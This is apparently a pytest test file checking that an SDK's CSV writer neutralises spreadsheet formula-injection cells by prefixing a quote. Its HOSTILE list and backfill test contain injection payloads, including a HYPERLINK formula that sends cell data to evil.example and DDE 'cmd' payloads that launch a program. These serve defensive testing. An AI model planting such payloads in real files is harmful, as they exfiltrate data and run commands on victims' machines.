"""CSV the SDK writes: cells a spreadsheet would run as formulas are neutralised (issue 12 item 8)."""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from perf_sdk import _csv
from perf_sdk._backfill import backfill
from tests.conftest import SERVICE

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_gets_a_leading_quote(cell: str) -> None:
    assert _csv.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("value", [-5, 3, 0.25, -1.5, None, True, "-0.05", "+3", "1e-3", "-.5", "plain", "a=b", ""])
def test_numbers_and_harmless_text_stay_as_they_are(value: object) -> None:
    assert _csv.neutralise(value) == value


def test_other_objects_are_judged_by_their_text() -> None:
    class Sneaky:
        def __str__(self) -> str:
            return "=1+1"

    assert _csv.neutralise(Sneaky()) == "'=1+1"


def test_writer_neutralises_every_cell_and_round_trips_the_rest() -> None:
    out = io.StringIO()
    w = _csv.writer(out, lineterminator="\n")
    w.writerow(["=1+1", -5, 'say "hi", then', None])
    w.writerows([["@x"], ["-3"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "-5", 'say "hi", then', ""], ["'@x"], ["-3"]]


def test_dict_writer_fills_missing_keys_and_refuses_unknown_ones() -> None:
    out = io.StringIO()
    w = _csv.DictWriter(out, ["a", "b"], lineterminator="\n")
    w.writeheader()
    w.writerow({"a": "+SUM(A1:A9)"})
    assert out.getvalue() == "a,b\n'+SUM(A1:A9),\n"
    with pytest.raises(ValueError, match="'c'"):
        w.writerow({"c": 1})
    ignoring = _csv.DictWriter(io.StringIO(), ["a"], extrasaction="ignore")
    ignoring.writerow({"a": 1, "c": 2})


def test_the_backfill_reject_file_neutralises_hostile_cells(tmp_path: Path) -> None:
    file = tmp_path / "third-party.csv"
    file.write_text(
        "timestamp,stage,channel,count\n"
        '2026-01-05,"=HYPERLINK(""http://evil.example"",""x"")",digital,1\n'
        "2026-01-05,started,@SUM(1+1),1\n"
    )
    rejects = tmp_path / "rejects.csv"
    backfill(file, service=SERVICE, dry_run=True, rejects=rejects)
    with rejects.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["value"] for r in rows] == ['\'=HYPERLINK("http://evil.example","x")', "'@SUM(1+1)"]
    assert all(not r[key].startswith(_csv.FORMULA_PREFIXES) for r in rows for key in r)
    assert rows[0]["row"] == "2"


def test_the_kpi_csv_export_goes_through_the_safe_writer_and_keeps_negative_changes_numeric(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from datetime import date

    from perf_sdk._kpi import CountsBuilder, compute_report

    used: list[list[str]] = []

    class Spy(_csv.DictWriter):
        def writerow(self, rowdict: Mapping[str, object]) -> object:
            used.append(list(rowdict))
            return super().writerow(rowdict)

    monkeypatch.setattr(_csv, "DictWriter", Spy)
    builder = CountsBuilder()
    for month, completed in ((1, 4), (4, 1)):
        builder.add_transactions(date(2026, month, 2), "started", "digital", 4)
        builder.add_transactions(date(2026, month, 2), "completed", "digital", completed)
    rows = list(csv.DictReader(io.StringIO(compute_report(builder.build(), period="quarter").to_csv())))
    assert used, "KpiReport.to_csv must write through perf_sdk._csv"
    assert rows[1]["completion_rate_change"] == "-0.75"


@given(st.text())
def test_any_text_comes_back_whole_and_never_starts_a_formula(text: str) -> None:
    cell = _csv.neutralise(text)
    assert isinstance(cell, str) and cell in (text, "'" + text)
    assert not cell.startswith(_csv.FORMULA_PREFIXES) or float(cell) == float(cell)
